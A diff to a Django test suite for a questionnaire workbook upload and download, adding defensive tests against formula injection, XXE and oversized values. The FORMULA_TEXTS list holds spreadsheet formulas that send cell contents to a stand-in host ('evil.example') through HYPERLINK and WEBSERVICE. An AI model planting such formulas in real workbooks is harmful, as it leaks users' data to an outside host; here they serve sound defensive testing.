@@ -1,6 +1,9 @@
 """The offline questionnaire workbook: download, upload with every problem listed, preview, apply."""
 
+import datetime
 import io
+import socketserver
+import zipfile
 
 import openpyxl
 import pytest
@@ -10,6 +13,7 @@ from django.urls import reverse
 from assessment.models import Answer, Assessment
 
 from .conftest import answer
+from .hostile_files import hostile_workbooks
 
 
 def download(client, assessment) -> openpyxl.Workbook:
@@ -91,9 +95,9 @@ def test_every_problem_is_listed_with_sheet_row_and_reason_and_nothing_saved(ali
     response = upload(alice_client, draft, workbook)
     assert response.status_code == 400
     page = response.content.decode()
-    assert "SW-1: answer 7 is not 0–4, na or dk." in page
-    assert "SW-3: the evidence link is not a valid URL." in page
-    assert "Unknown indicator &#x27;BL-9&#x27; for this area." in page
+    assert "SW-1: the answer “7” is not 0–4, na or dk." in page
+    assert "SW-3: evidence link: Enter a web address starting with http:// or https://." in page
+    assert "Unknown indicator “BL-9” for this area." in page
     assert "Indicator BL-2 is missing from the sheet." in page
     assert "<td>SW Area SW</td><td>2</td>" in page
     apply(alice_client, draft)
@@ -142,3 +146,91 @@ def test_upload_is_refused_on_a_submitted_assessment(alice_client, submitted):
 
 def test_download_of_a_draft_is_refused_to_other_economies(bob_client, draft):
     assert bob_client.get(reverse("workbook_download", kwargs={"pk": draft.pk})).status_code == 403
+
+
+def downloaded_bytes(client, assessment) -> bytes:
+    return client.get(reverse("workbook_download", kwargs={"pk": assessment.pk})).content
+
+
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    '=WEBSERVICE("http://evil.example/")',
+    "=1+1",
+]
+
+
+def test_the_downloaded_workbook_holds_no_formula(client, submitted):
+    for n, text in enumerate(FORMULA_TEXTS, start=1):
+        Answer.objects.filter(assessment=submitted, indicator__code=f"SW-{n}").update(evidence=text, comment=text)
+    archive = zipfile.ZipFile(io.BytesIO(downloaded_bytes(client, submitted)))
+    sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
+    cell = openpyxl.load_workbook(io.BytesIO(downloaded_bytes(client, submitted)))["SW Area SW"]["I2"]
+    assert (cell.data_type, cell.value) == ("s", FORMULA_TEXTS[0])
+
+
+@pytest.mark.parametrize("text", ["=1+1 counts per art. 10", "+886 2 2550 5500", "-5% duty", "@customs"])
+def test_text_that_starts_like_a_formula_survives_the_round_trip(alice_client, draft, text):
+    answer(draft, "SW-1", 3, evidence=text, comment=text)
+    response = upload(alice_client, draft, content=downloaded_bytes(alice_client, draft))
+    assert 'data-testid="no-changes"' in response.content.decode()
+
+
+def test_a_formula_typed_into_the_workbook_is_refused(alice_client, draft):
+    workbook = download(alice_client, draft)
+    workbook["SW Area SW"]["C2"] = "=1+2"
+    response = upload(alice_client, draft, workbook)
+    assert response.status_code == 400
+    assert "SW-1: C2 holds a formula; type the value itself." in response.content.decode()
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"), [(True, "“TRUE”"), (datetime.datetime(2024, 1, 2), "“2024-01-02T00:00:00”"), (3.5, "“3.5”")]
+)
+def test_a_bad_answer_is_named_as_the_cell_shows_it(alice_client, draft, value, shown):
+    workbook = download(alice_client, draft)
+    workbook["SW Area SW"]["C2"] = value
+    page = upload(alice_client, draft, workbook).content.decode()
+    assert f"SW-1: the answer {shown} is not 0–4, na or dk." in page
+
+
+def test_problems_past_the_first_hundred_are_counted_not_listed(alice_client, draft):
+    workbook = download(alice_client, draft)
+    for title in ("SW Area SW", "BL Area BL"):
+        for row in range(5, 150):
+            workbook[title][f"A{row}"] = "X"
+    page = upload(alice_client, draft, workbook).content.decode()
+    # Rows 2–101 are read: each sheet says it is too long, then 97 unknown rows each follow (196 in all).
+    assert page.count("The sheet has more than 100 rows") == 2
+    assert page.count("Unknown indicator “X”") == 98
+    assert "and 96 more problems, not listed." in page
+
+
+@pytest.mark.parametrize("name", list(hostile_workbooks(b"")))
+def test_a_hostile_workbook_is_refused_plainly_and_saves_nothing(alice_client, draft, name):
+    answer(draft, "SW-1", 2, evidence="Kept")
+    crafted = hostile_workbooks(downloaded_bytes(alice_client, draft))[name]()
+    response = upload(alice_client, draft, content=crafted)
+    assert response.status_code == 400
+    assert len(response.content) < 200 * 1024
+    assert 'data-testid="workbook-problems"' in response.content.decode()
+    assert [(a.value, a.evidence) for a in Answer.objects.filter(assessment=draft)] == [("2", "Kept")]
+
+
+def test_an_external_entity_is_never_fetched(alice_client, draft):
+    with socketserver.TCPServer(("127.0.0.1", 0), socketserver.BaseRequestHandler) as listener:
+        listener.timeout = 0.2
+        port = listener.server_address[1]
+        crafted = hostile_workbooks(downloaded_bytes(alice_client, draft), listener_port=port)["XXE to a web address"]()
+        response = upload(alice_client, draft, content=crafted)
+        assert "The workbook could not be read" in response.content.decode()
+        connections = []
+        listener.RequestHandlerClass = lambda *args: connections.append(args)
+        listener.handle_request()
+    assert connections == []
+
+
+def test_a_long_value_is_shown_as_a_short_excerpt(alice_client, draft):
+    crafted = hostile_workbooks(downloaded_bytes(alice_client, draft))["1.5M-character inline answer"]()
+    page = upload(alice_client, draft, content=crafted).content.decode()
+    assert "SW-1: the answer “" + "A" * 39 + "…” is not 0–4, na or dk." in page
